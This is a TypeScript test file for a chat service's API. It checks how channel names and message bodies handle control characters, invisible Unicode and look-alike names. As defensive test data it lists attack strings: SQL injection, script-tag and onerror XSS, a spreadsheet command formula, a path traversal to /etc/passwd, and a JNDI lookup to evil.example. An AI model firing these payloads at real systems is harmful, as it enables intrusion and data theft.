import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Channel } from "../../src/channels/schemas.ts";
import type { Message, MessagePage } from "../../src/messages/schemas.ts";
import type { ApiClient } from "../support/client.ts";
import { type Stage, startStage } from "../support/stage.ts";
import { expectNoFaults } from "./server-log.ts";

let stage: Stage;
let member: ApiClient;
let messages: string;

beforeAll(async () => {
  stage = await startStage();
  member = await stage.as(stage.cast.member);
  messages = `/channels/${stage.cast.open.id}/messages`;
});

afterAll(() => stage[Symbol.asyncDispose]());

async function create(name: string) {
  return await member.post<{ data: Channel; errors?: object }>("/channels", { name, visibility: "public" });
}

describe("a channel's name", () => {
  test.each([
    ["a line feed", "a\nb"],
    ["an escape sequence of a terminal", "\u001B[31mred"],
    ["the one-byte start of such a sequence", "\u009B31mred"],
    ["a delete", "a\u007Fb"],
    ["a next line", "a\u0085b"],
    ["a line separator", "a\u2028b"],
    ["a paragraph separator", "a\u2029b"],
    ["a turn of the reading direction", "a\u202Egnp.exe"],
    ["an isolate", "a\u2066b\u2069"],
    ["a space without width", "gen\u200Beral"],
    ["a byte order mark", "\uFEFFgeneral"],
    ["a word joiner", "gen\u2060eral"],
    ["a soft hyphen", "gen\u00ADeral"],
    ["a letter without a shape", "general\u3164"],
    ["an invisible times sign", "gen\u2062eral"],
    ["no character at all", "general\uFFFE"],
  ])("is refused with %s in it", async (_what, name) => {
    const { status, json } = await create(name);
    expect([status, Object.keys(json.errors ?? {})]).toEqual([422, ["name"]]);
  });

  test.each([
    ["SQL", "'); DROP TABLE channels; --"],
    ["patterns of SQL", "100% of_it \\ done"],
    ["markup", "<img src=x onerror=alert(1)>"],
    ["a mention", "<!channel> @everyone"],
    ["a formula", '=cmd|"/c calc"!A1'],
    ["a path", "../../etc/passwd"],
    ["a template", "${jndi:ldap://evil.example/a} {{7*7}} %n%s"],
    ["JSON", '{"$gt": ""}'],
    ["a device of Windows", "CON"],
    ["joined emoji", "👨‍👩‍👧 family 🏴󠁧󠁢󠁥󠁮󠁧󠁿"],
    ["letters that need a joiner", "می‌خواهم"],
    ["letters of all sorts under marks", `z${"\u0301\u0489\u0337".repeat(80)}algo`],
  ])("is plain text: %s", async (_what, name) => {
    const { status, json } = await create(name);
    expect([status, json.data.name]).toEqual([201, name]);
    expect(json.data.slug).toMatch(/^[\p{L}\p{N}][\p{L}\p{M}\p{N}-]*$/u);
    expect((await member.get<{ data: Channel }>(`/channels/${json.data.id}`)).json).toEqual({
      data: json.data,
    });
  });

  test.each(["..", ".", "/", "%", "-", "#", "\u0301\u0301", "\u200D", "🎉", "❤️"])(
    "is refused when its slug would be empty: %p",
    async (name) => {
      const { status, json } = await create(name);
      expect([status, Object.keys(json.errors ?? {})]).toEqual([422, ["name"]]);
    },
  );

  test.each([
    ["composed or not", "Caf\u00e9", "Cafe\u0301"],
    ["with ligatures", "Of\uFB01ce", "office"],
    ["in full width", "Ｂｕｉｌｄ", "build"],
    ["with the sign for Kelvin", "\u212Aelvin", "kelvin"],
    ["in capitals", "ÄRGER", "ärger"],
    ["with other spaces", "two\u2003words", "two words"],
    ["with spaces around it", " around ", "around"],
    ["with digits in a ring", "room ⑫", "room 12"],
  ])("collides with one that only looks different: %s", async (_what, name, same) => {
    expect((await create(name)).status).toBe(201);
    expect((await create(same)).status).toBe(422);
  });

  test("does not collide with look-alikes in other letters", async () => {
    const names = [
      "paypal",
      "p\u0430yp\u0430l",
      "straße",
      "strasse",
      "istanbul",
      "\u0130stanbul",
      "\u0131stanbul",
    ];
    const slugs = [];
    for (const name of names) {
      const { status, json } = await create(name);
      expect(status).toBe(201);
      slugs.push(json.data.slug);
    }
    expect(new Set(slugs).size).toBe(names.length);
  });
});

describe("the text of a message", () => {
  const texts = {
    controls: "a\u0001\b\u000B\u001B[2J\u007F\u0080\u009Bz",
    "line ends of all kinds": "a\r\nb\rc\nd\u0085e\u2028f\u2029g",
    directions: "a\u202Eb\u202Dc\u2066d\u2069\u200Fe",
    "hidden marks": "a\u200B\u200C\u200D\u2060\uFEFF\u00AD\u3164z",
    "no characters": "a\uFFFE\uFFFF\u{1FFFE}\u{10FFFF}\uFFFDz",
    "marks upon marks": `a${"\u0301".repeat(7_999)}`,
    "private characters": "a\uE000\u{F0000}z",
    markup: "<script>alert(1)</script>[x](javascript:alert(1))<!channel>",
    "a JSON text": '{"body":"\\u0000"}\\u0000\\ud800',
  };

  test.each(Object.entries(texts))("is the same wherever it is read: %s", async (_what, body) => {
    const posted = await member.post<{ data: Message }>(messages, { body });
    expect(posted.status).toBe(201);
    const { id } = posted.json.data;
    const edited = await member.patch<{ data: Message }>(`${messages}/${id}`, { body });
    const read = await member.get<{ data: Message }>(`${messages}/${id}`);
    const listed = await member.get<MessagePage>(messages);
    const bodies = [posted.json.data, edited.json.data, read.json.data, listed.json.data[0]];
    expect(bodies.map((message) => message?.body)).toEqual([body, body, body, body]);
  });

  test("has a limit that combining marks count towards", async () => {
    expect((await member.post(messages, { body: `a${"\u0301".repeat(8_000)}` })).status).toBe(422);
    expect((await member.post(messages, { body: `a${"\u0301".repeat(100_000)}` })).status).toBe(422);
  });
});

test("left no internal error in the log", () => expectNoFaults(stage.server));
